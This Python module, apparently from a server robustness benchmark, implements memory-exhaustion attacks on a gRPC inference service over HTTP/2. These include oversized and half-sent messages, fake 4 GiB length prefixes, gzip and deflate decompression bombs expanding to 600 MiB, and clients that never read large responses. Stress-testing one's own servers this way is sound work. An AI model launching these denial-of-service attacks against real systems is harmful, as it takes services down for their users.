"""The attacks on memory: large messages, messages that unpack to large ones, and large answers that are never read."""

import time
import zlib
from collections import defaultdict
from collections.abc import Sequence

from bench.attacks import wire
from bench.attacks.slow import ended, hold
from bench.attacks.target import MOST_S, Sent, Target
from bench.attacks.wire import Wire
from bench.attacks.workload import large_message, wide_message
from bench.load.workload import framed
from frostline.pb import inference_pb2 as pb
from frostline.protocol import MODEL_INFER, MODEL_STREAM_INFER

_GREETING = wire.PREFACE + wire.frame(wire.SETTINGS, 0, 0)
_SHUT = wire.PREFACE + wire.settings(window=0)
"""A client that reads no byte of an answer."""
_OPEN = wire.PREFACE + wire.settings(window=wire.LARGEST_WINDOW) + wire.window_update(0, wire.LARGEST_WINDOW - 65535)
_CALL = wire.block(MODEL_INFER)
_STREAM = wire.block(MODEL_STREAM_INFER)
_MIB = 2**20
UNPACKED_MIB = 600
"""About 611 KB of gzip."""


def _opened(target: Target, sent: Sent, count: int, greeting: bytes) -> list[Wire]:
    wires = [target.wire(sent) for _ in range(count)]
    for each in wires:
        each.open(greeting)
    # Its settings say how much the server takes.
    for each in wires:
        each.turn(1.0)
    return [each for each in wires if not each.closed]


def upload(
    target: Target, wires: Sequence[Wire], calls: int, block: bytes, body: bytes, *, stop: int | None = None
) -> int:
    """Send a body in so many calls at once, spread over connections, as flow control allows it.

    Args:
        target: the server.
        wires: the connections.
        calls: how many.
        block: the calls' header block.
        body: what each call sends.
        stop: how much of the body is sent, and then no more; None for all.

    Returns:
        The bytes of bodies that were sent until all was sent, or refused, or the attack's longest time is over.
    """
    end = len(body) if stop is None else stop
    view = memoryview(body)
    left: dict[Wire, dict[int, int]] = defaultdict(dict)
    for number in range(calls):
        each = wires[number % len(wires)]
        stream = each.take_stream()
        each.watch(stream)
        each.unsent += wire.headers(stream, block)
        left[each][stream] = 0
    total, until = 0, time.monotonic() + MOST_S
    while left and time.monotonic() < until:
        moved = False
        for each, streams in list(left.items()):
            living = each.turn(0)
            for stream, at in list(streams.items()):
                if not living or stream not in each.windows or at >= end:
                    del streams[stream]
                    continue
                size = min(end - at, wire.FRAME, each.room(stream))
                if size <= 0 or len(each.unsent) > _MIB:
                    continue
                last = wire.END_STREAM if at + size == len(body) else 0
                each.unsent += wire.frame(wire.DATA, last, stream, view[at : at + size])
                each.spend(stream, size)
                target.link.spend(size)
                streams[stream] = at + size
                total += size
                moved = True
            if not streams and (not living or not each.unsent):
                del left[each]
        if not moved:
            time.sleep(0.002)
    return total


def half_sent(target: Target) -> Sent:
    """40 messages of 60 MB on 8 connections; all but the last bytes of each are sent, and then nothing."""
    sent = Sent("MB")
    begin = time.monotonic()
    wires = _opened(target, sent, 8, _GREETING)
    body = framed(large_message(60_000_000))
    sent.count = upload(target, wires, 40, _CALL, body, stop=len(body) - 1000) // 1_000_000
    hold(wires, max(begin + target.seconds, time.monotonic() + 3))
    return ended(sent, begin, wires)


def whole(target: Target) -> Sent:
    """100 messages of 64 MiB at once, on 20 connections; the model refuses them for their shape."""
    sent = Sent("MB")
    begin = time.monotonic()
    wires = _opened(target, sent, 20, _GREETING)
    sent.count = upload(target, wires, 100, _CALL, framed(large_message(64 * _MIB))) // 1_000_000
    hold(wires, max(begin + target.seconds, time.monotonic() + 3))
    return ended(sent, begin, wires)


def announced(target: Target) -> Sent:
    """200 calls on 4 connections, each with the 5 bytes that announce a message of 4 GiB."""
    sent = Sent("calls")
    begin = time.monotonic()
    wires = _opened(target, sent, 4, _GREETING)
    upload(target, wires, 200, _CALL, b"\0\xff\xff\xff\xff" + bytes(100), stop=5)
    sent.count = 200
    hold(wires, begin + target.seconds)
    return ended(sent, begin, wires)


def reserved(target: Target) -> Sent:
    """Calls with the 5 bytes that announce 64 MiB, and half of that, and so on to 1 KiB, 8 of each on 4 connections.

    Whoever sets memory aside for what is announced has none left for others.
    """
    sent = Sent("calls")
    begin = time.monotonic()
    wires = _opened(target, sent, 4, _GREETING)
    for shift in range(17):
        prefix = b"\0" + (64 * _MIB >> shift).to_bytes(4, "big")
        upload(target, wires, 8, _CALL, prefix + bytes(100), stop=len(prefix))
        sent.count += 8
    hold(wires, begin + target.seconds)
    return ended(sent, begin, wires)


def packed(encoding: str, mib: int = UNPACKED_MIB) -> bytes:
    """A compressed request that unpacks to so many MiB and more.

    Args:
        encoding: gzip or deflate, as gRPC means them.
        mib: the size of its tensor.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, 31 if encoding == "gzip" else 15)
    head = pb.ModelInferRequest(model_name="mlp").SerializeToString()
    # The key and the length of the field raw_input_contents, which stays a valid message.
    size, length = mib * _MIB, bytearray()
    while size > 127:
        length.append(size & 127 | 128)
        size >>= 7
    parts = [packer.compress(head + b"\x3a" + bytes([*length, size]))]
    parts += [packer.compress(bytes(_MIB)) for _ in range(mib)]
    return b"".join([*parts, packer.flush()])


def _bombs(target: Target, encoding: str, method: str) -> Sent:
    sent = Sent("bombs")
    bomb = packed(encoding)
    body = b"\1" + len(bomb).to_bytes(4, "big") + bomb
    block = wire.block(method, [("grpc-encoding", encoding)])
    begin = time.monotonic()
    wires: list[Wire] = []
    while time.monotonic() < begin + target.seconds:
        wires = _opened(target, sent, 8, _GREETING)
        upload(target, wires, 8, block, body)
        sent.count += 8
        hold(wires, time.monotonic() + 2)
        for each in wires:
            each.close()
    return ended(sent, begin, wires)


def gzip_bombs(target: Target) -> Sent:
    """611 KB of gzip that unpack to 600 MiB, eight at a time."""
    return _bombs(target, "gzip", MODEL_INFER)


def deflate_bombs(target: Target) -> Sent:
    """The same as deflate."""
    return _bombs(target, "deflate", MODEL_INFER)


def streamed_bombs(target: Target) -> Sent:
    """The same as gzip, as messages of a ModelStreamInfer."""
    return _bombs(target, "gzip", MODEL_STREAM_INFER)


def _unread(target: Target, greeting: bytes, *, reading: bool) -> Sent:
    """24 calls that are answered with 64 MiB each, on 4 connections."""
    sent = Sent("calls")
    body = framed(wide_message())
    begin = time.monotonic()
    wires = _opened(target, sent, 4, greeting)
    for each in wires:
        for _ in range(6):
            stream = each.take_stream()
            each.unsent += wire.headers(stream, _CALL) + wire.data(stream, body)
            sent.count += 1
        each.turn(0.01, reading=reading)
    if reading:
        hold(wires, begin + target.seconds)
    else:
        while time.monotonic() < begin + target.seconds:
            time.sleep(0.1)
    return ended(sent, begin, wires)


def unread(target: Target) -> Sent:
    """24 answers of 64 MiB to a client whose windows are 0."""
    return _unread(target, _SHUT, reading=True)


def unread_sockets(target: Target) -> Sent:
    """The same to a client with the largest windows, which does not read its socket."""
    return _unread(target, _OPEN, reading=False)


def dribbled(target: Target) -> Sent:
    """The same to a client that opens its windows by one byte at a time."""
    sent = Sent("bytes")
    body = framed(wide_message())
    begin = time.monotonic()
    wires = _opened(target, sent, 4, _SHUT)
    for each in wires:
        for _ in range(6):
            stream = each.take_stream()
            each.unsent += wire.headers(stream, _CALL) + wire.data(stream, body)
    crumbs = b"".join(wire.window_update(stream, 1) for stream in range(1, 12, 2))

    def say(*_: object) -> bytes:
        sent.count += 6
        return crumbs

    hold(wires, begin + target.seconds, 0.002, say)
    return ended(sent, begin, wires)


def unread_streams(target: Target) -> Sent:
    """8 streams, each asking 100 times for 64 MiB and reading nothing, that hang up; three times."""
    sent = Sent("requests")
    requests = wire.data(0, framed(wide_message()), end=False)
    begin = time.monotonic()
    for _ in range(3):
        wires = _opened(target, sent, 2, _SHUT)
        for each in wires:
            for _ in range(4):
                stream = each.take_stream()
                asked = requests[:5] + stream.to_bytes(4, "big") + requests[9:]
                each.unsent += wire.headers(stream, _STREAM) + asked * 100
                sent.count += 100
        hold(wires, time.monotonic() + target.seconds / 3)
        for each in wires:
            each.close()
    return ended(sent, begin, wires)
